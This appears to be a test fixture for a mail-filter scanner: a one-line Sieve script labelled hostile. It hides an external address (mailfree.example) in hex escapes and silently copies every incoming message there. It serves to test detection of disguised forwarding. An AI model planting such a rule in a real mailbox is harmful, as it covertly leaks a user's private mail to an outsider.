# about: the address is written in hexadecimal
# class: hostile
# expect: disguised everything forwards-external
require ["encoded-character", "copy"];
redirect :copy "mirror${hex: 2e 62 6f 78}77${hex:40}mailfree.example";
